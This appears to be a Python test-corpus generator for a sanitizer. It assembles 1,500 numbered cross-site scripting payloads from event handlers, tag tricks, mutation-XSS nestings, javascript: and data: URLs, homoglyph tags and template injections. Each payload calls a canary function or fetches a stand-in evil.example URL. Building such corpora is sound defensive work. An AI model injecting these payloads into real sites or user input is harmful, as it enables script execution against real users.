"""Fifteen hundred ways of making a page run or fetch something, put together from parts; each one says its number when it works.

Written for this project. `%d` becomes the payload's number: whoever runs `hit(7)` or asks for `/hit/7` gives itself away.
"""

from __future__ import annotations

import random

RUN = "hit(%d)"
FETCH = "https://evil.example/hit/%d"
EVENTS = (
    "onload", "onerror", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onbegin", "onpageshow",
    "onpointerenter", "oncut", "onscroll", "onbeforematch", "oncontentvisibilityautostatechange",
)  # fmt: skip
ELEMENTS = (
    "<img src=x {on}>", "<svg {on}>", "<body {on}>", "<details open {on}>", "<input autofocus {on}>",
    "<video {on}><source {on}></video>", "<audio src=x {on}>", "<marquee {on}>x</marquee>", "<select autofocus {on}>",
    "<svg><animate {on} attributeName=x dur=1s>", "<style>@keyframes x{{}}</style><b style=animation:x {on}>x</b>",
    "<iframe {on} src=x></iframe>", "<object data=x {on}></object>", "<math><mi {on}>x</mi></math>",
    "<a {on} href=x>x</a>", "<form {on}><button>x</button></form>", "<dialog open {on}>x</dialog>",
)  # fmt: skip
WHOLE = (
    "<script>{run}</script>", "<script src={fetch}></script>", "<ScRiPt >{run}</sCrIpT>", "<script/x>{run}</script>",
    "<<script>{run}//<</script>", "<scr<script>ipt>{run}</scr</script>ipt>", "<svg><script>{run}</script></svg>",
    "<script type=module>{run}</script>", "<a href=\"javascript:{run}\">x</a>", "<a href=\"java\tscript:{run}\">x</a>",
    "<a href=\"&#106;avascript:{run}\">x</a>", "<a href=\" \x01javascript:{run}\">x</a>",
    "<a href=\"data:text/html,<script>{run}</script>\">x</a>", "<a href='vbscript:{run}'>x</a>",
    "<iframe srcdoc=\"<script>parent.{run}</script>\"></iframe>", "<iframe src=\"javascript:parent.{run}\"></iframe>",
    "<object data=\"data:text/html,<script>parent.{run}</script>\"></object>", "<embed src=\"javascript:{run}\">",
    "<base href=\"https://evil.example/hit/{n}/\"><img src=x>", "<meta http-equiv=refresh content=\"0;url={fetch}\">",
    "<link rel=stylesheet href={fetch}>", "<link rel=prefetch href={fetch}>", "<link rel=icon href={fetch}>",
    "<img src={fetch}>", "<img srcset=\"{fetch} 1x\">", "<picture><source srcset={fetch}><img></picture>",
    "<video poster={fetch}></video>", "<audio src={fetch} autoplay></audio>", "<input type=image src={fetch}>",
    "<body background={fetch}>", "<table background={fetch}><tr><td>x</table>", "<svg><image href={fetch} /></svg>",
    "<svg><use href=\"{fetch}#x\" /></svg>", "<svg><feImage href={fetch} /></svg>", "<div style=\"background:url({fetch})\">x</div>",
    "<style>@import '{fetch}';</style>", "<style>body{{background:url({fetch})}}</style>",
    "<style>@font-face{{font-family:x;src:url({fetch})}}*{{font-family:x}}</style>",
    "<style>input[value^=a]{{background:url({fetch})}}</style><input value=a>",
    "<form action={fetch}><button autofocus>x</button></form>", "<button formaction=\"javascript:{run}\">x</button>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table></mtext></math>",
    "<svg></p><style><g title=\"</style><img src=x onerror={run}>\">", "<noscript><p title=\"</noscript><img src=x onerror={run}>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>", "<xmp><p title=\"</xmp><img src=x onerror={run}>\">",
    "<title><a title=\"</title><img src=x onerror={run}>\">", "<template><script>{run}</script></template>",
    "<textarea><a title=\"</textarea><img src=x onerror={run}>\">", "<!--><img src=x onerror={run}>-->", "<![CDATA[><img src=x onerror={run}>]]>",
    "<?xml version='1.0'?><img src=x onerror={run}>", "<svg><foreignObject><iframe srcdoc='<script>parent.{run}</script>'></iframe></foreignObject></svg>",
    "<a href=\"cid:x\" onclick={run}>x</a><img src=\"cid:{n}\">", "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>\">",
    "<p id=user></p><form name=cookie><input name=body>", "<img name=getElementById src=x onerror={run}>", "\u202e<img src=x onerror={run}>\u202c",
    "<іmg src=x onerror={run}>", "＜script＞{run}＜/script＞", "{{{{constructor.constructor('{run}')()}}}}", "${{{run}}}", "<%= {run} %>",
    "[x](javascript:{run})", "![x]({fetch})", "javascript:{run}", "'-{run}-'", "\"-{run}-\"", "</script><script>{run}</script>", "\\\"-{run}}}//",
    "<p hx-get={fetch} hx-trigger=load>x</p>", "<p hx-on::load={run}>x</p>", "<p data-hx-get=\"/desk/\" hx-trigger=load hx-vals='js:{{x:{run}}}'>x</p>",
    "<x contenteditable onblur={run}>x</x>", "<svg><a xlink:href=\"javascript:{run}\"><text y=9>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to={run}>", "<ping><a ping={fetch} href=x>x</a>", "<blockquote cite=\"javascript:{run}\">x</blockquote>",
    "<table><td background=\"javascript:{run}\">", "<applet code={fetch}></applet>", "<frameset onload={run}><frame src={fetch}></frameset>",
)  # fmt: skip
AROUND = (
    "{}",
    '">{}',
    "'>{}",
    "--></style></script></textarea></title>{}",
    "</a>{}",
    "\x00{}",
    "<b>{}",
    "a{}\u2028b",
)
WANTED = 1500


def payloads(count: int = WANTED, seed: int = 7) -> list[str]:
    """That many different ones, the same each time; a smaller number is a fair part of them all."""
    found = []
    forms = [
        around.replace("{}", form.replace("{on}", f"{event}={{run}}"))
        for form in ELEMENTS
        for event in EVENTS
        for around in AROUND[:3]
    ]
    forms += [
        around.format(form) if around != "{}" else form for form in WHOLE for around in AROUND
    ]
    forms += [
        form.swapcase().replace("{RUN}", "{run}")
        for form in forms
        if "{fetch}" not in form and "{n}" not in form
    ]
    dice = random.Random(seed)
    dice.shuffle(forms)
    for number, form in enumerate(dict.fromkeys(forms)):
        if number == count:
            break
        run, fetch = RUN % number, FETCH % number
        filled = form.replace("{run}", run).replace("{fetch}", fetch).replace("{n}", str(number))
        found.append(filled.replace("{{", "{").replace("}}", "}"))
    return found
